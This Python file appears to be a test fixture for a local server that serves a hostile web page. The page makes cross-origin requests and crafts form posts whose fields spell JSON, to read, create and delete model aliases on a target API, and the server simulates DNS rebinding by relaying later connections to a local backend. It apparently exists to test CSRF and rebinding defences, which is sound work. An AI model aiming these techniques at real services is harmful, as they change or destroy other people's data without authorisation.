"""Somebody else's web server: its page attacks, and its name can begin to mean another server."""

from __future__ import annotations

import socket
import socketserver
import threading
import time

PAGE = """<!doctype html><meta charset="utf-8"><title>attacking</title><body><script>
const target = {target}, seen = [];
const note = (what, said) => seen.push(what + ": " + said);
const alias = name => JSON.stringify({{alias: name, litellm_model: "openai/gpt-4"}});
const attempt = async (what, path, options) => {{
  try {{
    const answer = await fetch(target + path, options);
    note(what, answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text()).slice(0, 300));
  }} catch (error) {{ note(what, "blocked"); }}
}};
const form = async (name, type) => {{
  const frame = document.createElement("iframe");
  frame.name = name;
  document.body.appendChild(frame);
  const form = document.body.appendChild(document.createElement("form"));
  Object.assign(form, {{action: target + "/api/model-aliases/create", method: "post", enctype: type, target: name}});
  // The name and value of one field, with the "=" between them, spell JSON.
  const field = form.appendChild(document.createElement("input"));
  field.name = '{{"alias": "' + name + '", "litellm_model": "openai/gpt-4", "description": "';
  field.value = '"}}';
  form.submit();
  // Answered late: what was submitted is under way by then.
  await fetch("/later");
}};
(async () => {{
  await attempt("read", "/api/model-aliases", {{}});
  await attempt("create", "/api/model-aliases/create", {{method: "POST", body: alias("by-fetch")}});
  await attempt("simple", "/api/model-aliases/create", {{method: "POST", mode: "no-cors", body: alias("by-simple")}});
  await attempt("json", "/api/model-aliases/create",
    {{method: "POST", headers: {{"Content-Type": "application/json"}}, body: alias("by-json")}});
  await attempt("delete", "/api/model-aliases/precious", {{method: "DELETE"}});
  {forms}
  document.body.replaceChildren();
  document.title = "done";
  const result = document.body.appendChild(document.createElement("pre"));
  result.textContent = seen.join("\\n");
}})();
</script>"""

FORMS = 'await form("by-text-form", "text/plain"); await form("by-url-form", "application/x-www-form-urlencoded");'


class Attacker(socketserver.ThreadingTCPServer):
    """Serves the page once; once rebound, every later connection reaches `behind` as it is."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, target: str, behind: int | None):
        super().__init__(("127.0.0.1", 0), Visit)
        forms = FORMS if behind is None else ""
        self.page = PAGE.format(target=f'"{target}"', forms=forms).encode()
        self.behind, self.served = behind, False
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server_address[1]


class Visit(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        attacker: Attacker = self.server  # type: ignore[assignment]
        # Browsers open connections in advance: what one is for shows when its first bytes come.
        head = self.request.recv(65536)
        if attacker.served and attacker.behind is not None:
            relay(self.request, attacker.behind, head)
            return
        is_page = head.startswith(b"GET / ")
        if head.startswith(b"GET /later "):
            time.sleep(5)
        attacker.served |= is_page
        body = attacker.page if is_page else b""
        status = b"200 OK" if is_page else b"404 Not Found"
        answer = b"HTTP/1.1 %b\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%b"
        self.request.sendall(answer % (status, len(body), body))


def relay(client: socket.socket, port: int, head: bytes) -> None:
    """Passes bytes on in both directions until both sides are done; `head` was read already."""
    with socket.create_connection(("127.0.0.1", port)) as server:
        server.sendall(head)
        back = threading.Thread(target=pump, args=(server, client), daemon=True)
        back.start()
        pump(client, server)
        back.join(10)


def pump(source: socket.socket, sink: socket.socket) -> None:
    try:
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass  # The other side has left: so does this one.
